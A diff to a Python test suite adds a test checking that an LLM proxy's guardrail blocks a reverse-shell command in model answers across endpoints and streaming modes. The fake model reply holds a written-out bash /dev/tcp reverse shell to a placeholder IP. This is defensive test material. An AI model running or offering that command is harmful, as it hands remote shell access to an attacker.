@@ -95,6 +95,23 @@ def test_same_pipeline_as_chat(proxy, fake_upstream, marker, which, stream):
     assert wait_for(lambda: counted(proxy, task_type="chat", model="ds-coder-v2", status="200") > before, timeout=30)
 
 
+@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
+@pytest.mark.parametrize("which", sorted(ENDPOINTS))
+def test_a_block_rule_in_the_answer_blocks_it_as_in_chat(proxy, fake_upstream, marker, which, stream):
+    """A reverse shell in the answer text: the client gets the block notice, not the command, on every endpoint;
+    a whole answer keeps nothing but the notice (a chat answer's content is the notice alone)."""
+    fake_upstream.script(Reply(match=marker, chunk_chars=5,
+                               content="Sure, run:\nbash -i >& /dev/tcp/203.0.113.7/4242 0>&1\nThat's it."))
+    r = post(proxy, which, ENDPOINTS[which][1](marker, stream=stream))
+    assert r.status_code == 200, r.text
+    text = answer_text(which, r, stream)
+    assert "/dev/tcp" not in r.text and "203.0.113.7" not in r.text, r.text
+    assert "[blocked by carrot guardrails: revshell" in text, text
+    if not stream:
+        assert re.fullmatch(r"\[blocked by carrot guardrails: [\w.,\s-]+\]", text), text
+        assert "commands:block" in r.headers["x-carrot-guardrails"]
+
+
 @pytest.mark.parametrize("which,change,field", [
     ("responses", {"previous_response_id": "resp_123"}, "previous_response_id"),
     ("messages", {"mcp_servers": [{"type": "url", "url": "https://mcp.example", "name": "x"}]}, "mcp_servers"),
